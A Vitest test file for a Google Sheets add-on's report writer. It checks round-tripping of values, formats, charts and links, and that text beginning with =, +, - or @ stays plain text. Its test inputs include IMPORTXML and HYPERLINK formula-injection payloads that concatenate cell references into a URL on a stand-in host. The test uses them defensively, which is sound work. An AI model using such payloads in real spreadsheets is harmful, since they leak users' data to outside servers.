/**
 * The SpreadsheetApp writer's round trip: the model written through the Platform's Apps Script
 * implementation and the stand-ins, and read back from them in the model's terms. Text cells get
 * the "@" format (so nothing typed is reparsed); text starting with =, +, - or @ is entered with
 * a leading apostrophe instead (the documented way to force text); a number format shows on
 * numbers only; a blank for null and the default width (100 px) where the model has none.
 * The examples sheet's heading and labels follow the same text rule.
 */
import { afterEach, describe, expect, it } from 'vitest'
import { appsScriptPlatform } from '../../addon/src/platform/apps-script'
import { replaceReport } from '../../addon/src/report/swap'
import {
  type Box,
  buildSheets,
  type CellRef,
  hexOf,
  SHEETS_DEFAULTS,
  type SheetModel,
} from '../../sheets/index'
import { FIXTURE_TIME, fixtureReport } from '../support/sheet-fixture'
import { CallLog, tracked } from './apps-script/calls'
import { parseA1 } from './apps-script/range'
import { createRealm } from './apps-script/realm'
import type { FakeSheet } from './apps-script/sheet'
import { FakeSpreadsheet, FakeSpreadsheetApp } from './apps-script/spreadsheet'
import { FakeUi } from './apps-script/ui'

const global = globalThis as { SpreadsheetApp?: unknown }
/** Apps Script's automatic number format, and its plain-text one. */
const AUTOMATIC = '0.###############'
const TEXT = '@'

afterEach(() => {
  delete global.SpreadsheetApp
})

/** A spreadsheet with the user's responses and a sheet named like the rating sheet. */
function spreadsheetWithUserSheets() {
  const log = new CallLog()
  const realm = createRealm({})
  const env = { log, realm: () => realm }
  const spreadsheet = new FakeSpreadsheet(env)
  global.SpreadsheetApp = tracked(
    new FakeSpreadsheetApp(env, spreadsheet, new FakeUi()),
    'SpreadsheetApp',
    log,
  )
  spreadsheet.fakeAddSheet('Responses', [['Service', 'Overall']])
  spreadsheet.fakeAddSheet('SERVICE RATING', [['mine']])
  return { spreadsheet, log }
}

const boxOf = (a1: string): Box => {
  const { row, column, rows, columns } = parseA1(a1)
  return { row: row - 1, column: column - 1, rows, columns }
}

/** A link Sheets makes to a cell of the same sheet, `#gid=<id>&range=B5`, as the model's cell. */
function linkTarget(url: string, sheetId: number): CellRef | null {
  if (url === '') return null
  const match = /^#gid=(\d+)&range=([A-Z]+)(\d+)$/.exec(url)
  expect(match, url).not.toBeNull()
  const [, gid, letters, row] = match as RegExpExecArray
  expect(Number(gid)).toBe(sheetId)
  const { column } = parseA1(`${letters}${row}:${letters}${row}`)
  return { row: Number(row) - 1, column: column - 1 }
}

/** A stand-in sheet in the model's terms; number formats on numbers only, colours as hex. */
function readBack(sheet: FakeSheet) {
  const grid = <T>(read: (cell: FakeSheet['grid'][number][number]) => T) =>
    sheet.grid.map((row) => row.map(read))
  for (const row of sheet.grid) {
    for (const cell of row) {
      const escaped = typeof cell.value === 'string' && /^[=+\-@]/.test(cell.value)
      if (typeof cell.value !== 'number') expect(cell.format).toBe(escaped ? AUTOMATIC : TEXT)
      expect(cell.formula).toBe('')
    }
  }
  return {
    table: JSON.parse(sheet.metadata[0]?.value ?? '{}').table,
    title: sheet.name,
    rows: sheet.rowCount,
    columns: sheet.columnCount,
    frozenRows: sheet.frozenRows,
    values: grid((cell) => (cell.value === '' ? null : cell.value)),
    formats: grid((cell) =>
      typeof cell.value === 'number' && cell.format !== AUTOMATIC ? cell.format : null,
    ),
    notes: grid((cell) => (cell.note === '' ? null : cell.note)),
    bold: grid((cell) => cell.weight === 'bold'),
    colors: grid((cell) => (cell.color === '#000000' ? null : cell.color)),
    links: grid((cell) => linkTarget(cell.link, sheet.id)),
    wraps: grid((cell) => cell.wrap),
    widths: Array.from({ length: sheet.columnCount }, (_, c) => sheet.widths.get(c + 1)),
    // Apps Script lists first the rule that takes precedence: the model's last.
    rules: [...sheet.rules].reverse().map((rule) => {
      const { min, mid, max } = rule.gradient as {
        min: string
        mid: { color: string; type: string; value: string }
        max: string
      }
      expect(mid.type).toBe('PERCENTILE')
      return {
        boxes: rule.ranges.map((range) => boxOf(range.getA1Notation())),
        min,
        mid: { color: mid.color, percentile: Number(mid.value) },
        max,
      }
    }),
    charts: sheet.charts.map((chart) => {
      const options = chart.options as {
        title: string
        legend: { position: string }
        hAxis: { title: string }
        vAxis?: { title: string }
        isStacked?: string | false
        width: number
        height: number
      }
      expect(chart.headers).toBe(1)
      const [domain, ...series] = chart.ranges.map(boxOf)
      // A bar chart's values run along its horizontal axis; a scatter's y up its vertical one.
      const scatter = chart.type === 'SCATTER'
      if (scatter) expect(options.isStacked).toBeUndefined()
      return {
        kind: scatter ? 'scatter' : chart.type === 'BAR' ? 'bar' : chart.type,
        stacked: options.isStacked === 'percent',
        title: options.title,
        legend: options.legend.position === 'bottom',
        axisTitle: scatter ? options.vAxis?.title : options.hAxis.title,
        domainAxisTitle: scatter ? options.hAxis.title : null,
        domain,
        series,
        anchor: { row: chart.position[0] - 1, column: chart.position[1] - 1 },
        width: options.width,
        height: options.height,
      }
    }),
    metadata: sheet.metadata.map((m) => {
      expect(m.visibility).toBe('DOCUMENT')
      return { key: m.key, value: m.value }
    }),
  }
}

/** The model as Apps Script shows it: formats on numbers, hex colours, default widths. */
function shown(sheet: SheetModel, title: string) {
  return {
    ...sheet,
    title,
    formats: sheet.formats.map((row, r) =>
      row.map((format, c) => (typeof sheet.values[r][c] === 'number' ? format : null)),
    ),
    colors: sheet.colors.map((row) => row.map((color) => (color ? hexOf(color) : null))),
    widths: sheet.widths.map((width) => width ?? SHEETS_DEFAULTS.columnWidth),
    rules: sheet.rules.map((rule) => ({
      boxes: rule.boxes,
      min: hexOf(rule.min),
      mid: { color: hexOf(rule.mid.color), percentile: rule.mid.percentile },
      max: hexOf(rule.max),
    })),
  }
}

describe('replaceReport', () => {
  const sheets = buildSheets(fixtureReport(), { generatedAt: FIXTURE_TIME })

  it('carries every value, format, note, bold, colour, width, rule, chart and mark', () => {
    const { spreadsheet } = spreadsheetWithUserSheets()
    replaceReport(appsScriptPlatform().workbook, sheets, 'run1')
    const names = spreadsheet.sheets.map((s) => s.name)
    expect(names).toEqual([
      'Responses',
      'SERVICE RATING',
      'Service rating (2)',
      'Score distribution',
      'Aspect scores',
      'By place of service',
      'Satisfaction by region',
      'Connections, informal payments and complaints',
      'Key drivers of satisfaction, by group',
      'Key drivers of satisfaction, by channel',
      'By age and gender',
      'Against the previous wave',
      'Services',
      'Weights',
      'Data issues',
    ])
    const written = spreadsheet.sheets.slice(2)
    sheets.forEach((sheet, i) => {
      expect(readBack(written[i]), sheet.table).toEqual(shown(sheet, names[i + 2]))
    })
    expect(spreadsheet.sheets[1].grid[0][0].value).toBe('mine')
    expect(spreadsheet.sheets[1].metadata).toEqual([])
  })

  it('keeps text that looks like a formula or a number as text, numbers formatted', () => {
    const { spreadsheet } = spreadsheetWithUserSheets()
    replaceReport(appsScriptPlatform().workbook, sheets, 'run1')
    const rating = spreadsheet.sheets[2]
    expect(rating.grid[0][0]).toMatchObject({ value: 'Rank', format: '@' })
    // Entered as "'=1+1": shown as =1+1, text, never a formula.
    const agency = rating.grid[0].findIndex((cell) => cell.value === 'Agency')
    expect(rating.grid[1][agency]).toMatchObject({ value: '=1+1', formula: '', format: AUTOMATIC })
    const n = rating.grid[0].findIndex((cell) => cell.value === 'Respondents')
    expect(rating.grid[1][n]).toMatchObject({ value: 200, format: '0' })
    expect(rating.metadata.map((m) => [m.key, JSON.parse(m.value).table])).toEqual([
      ['sapa.generated', 'rating'],
    ])
  })

  it('keeps labels starting with =, +, - or @ exactly as text, never formulas', () => {
    const { spreadsheet } = spreadsheetWithUserSheets()
    const report = fixtureReport()
    const labels = [
      '=IMPORTXML("https://x.example/?"&A1, "//a")',
      '+7 701 000 00 00',
      '-',
      '@everyone',
    ]
    const rating = report.tables[0]
    rating.rows = labels.map((service, i) => ({ ...rating.rows[0], service, rank: i + 1 }))
    replaceReport(appsScriptPlatform().workbook, buildSheets(report, { generatedAt: '' }), 'r')
    const sheet = spreadsheet.sheets[2]
    const column = sheet.grid[0].findIndex((cell) => cell.value === 'Service')
    expect(sheet.grid.slice(1, 5).map((row) => row[column])).toEqual(
      labels.map((value) => expect.objectContaining({ value, formula: '' })),
    )
    expect(spreadsheet.sheets.flatMap((s) => s.grid.flat()).filter((c) => c.formula)).toEqual([])
  })

  it('links the chapters’ contents to their blocks with one setRichTextValues', () => {
    const { spreadsheet, log } = spreadsheetWithUserSheets()
    log.reset()
    replaceReport(appsScriptPlatform().workbook, sheets, 'run1')
    expect(log.tally()['Range.setRichTextValues']).toBe(1)
    const chapters = spreadsheet.sheets.find((s) => s.name === 'Services') as FakeSheet
    const links = chapters.grid.flatMap((row, r) =>
      row.flatMap((cell) => (cell.link ? [[r, cell.value, cell.link]] : [])),
    )
    // Each service's link leads to its block's first row, by the sheet's id.
    expect(links).toEqual([
      [5, 'constructor', `#gid=${chapters.id}&range=A10`],
      [6, 'toString', `#gid=${chapters.id}&range=A35`],
      [7, 'Third', `#gid=${chapters.id}&range=A54`],
    ])
    expect(chapters.grid[9][0]).toMatchObject({ value: 'constructor', weight: 'bold' })
  })

  it('writes the sheets with calls that do not grow with their rows', () => {
    const count = (rows: number) => {
      const { log } = spreadsheetWithUserSheets()
      const report = fixtureReport()
      const rating = report.tables[0]
      rating.rows = Array.from({ length: rows }, (_, i) => ({ ...rating.rows[i % 4], rank: i + 1 }))
      log.reset()
      replaceReport(appsScriptPlatform().workbook, buildSheets(report, { generatedAt: '' }), 'r')
      return log.tally()
    }
    expect(count(400)).toEqual(count(4))
  })
})

describe('writeExamplesSheet', () => {
  const formula = "=SATISFACTION('Responses'!B2:B)"

  it('keeps a heading and labels starting with =, +, - or @ exactly as text, never formulas', () => {
    const { spreadsheet } = spreadsheetWithUserSheets()
    const { workbook } = appsScriptPlatform()
    const heading = '=HYPERLINK("https://x.example/?"&A3, "Sapa")'
    const labels = ['=IMPORTXML("https://x.example/?"&A1, "//a")', '+7 701 000 00 00', '-', '@x']
    const target = workbook.insertSheet('Examples')
    workbook.writeExamplesSheet(
      target.id,
      {
        heading,
        rows: [
          ...labels.map((label) => ({ label, formula })),
          { label: 'Satisfaction', formula },
          { label: '', formula: '' },
        ],
      },
      'sapa.examples',
    )
    const sheet = spreadsheet.sheets.find((s) => s.name === 'Examples') as FakeSheet
    // Entered as "'=…": shown as the text, the automatic format so the apostrophe is not kept.
    expect(sheet.grid[0][0]).toMatchObject({ value: heading, formula: '', format: AUTOMATIC })
    expect(sheet.grid.slice(2, 6).map((row) => row[0])).toEqual(
      labels.map((value) => expect.objectContaining({ value, formula: '', format: AUTOMATIC })),
    )
    // A label that does not look like a formula is plain text in a "@" cell.
    expect(sheet.grid[6][0]).toMatchObject({ value: 'Satisfaction', formula: '', format: TEXT })
    // Only the formula columns hold formulas: the formula's text beside the formula itself.
    expect(sheet.grid[2].slice(1, 3).map((cell) => cell.formula)).toEqual([
      '=FORMULATEXT(C3)',
      formula,
    ])
    expect(sheet.grid[7].slice(0, 3).map((cell) => cell.formula)).toEqual(['', '', ''])
    expect(sheet.grid.flatMap((row) => row[0]).filter((cell) => cell.formula)).toEqual([])
    expect(sheet.metadata.map((m) => [m.key, m.value])).toEqual([['sapa.examples', '1']])
  })
})
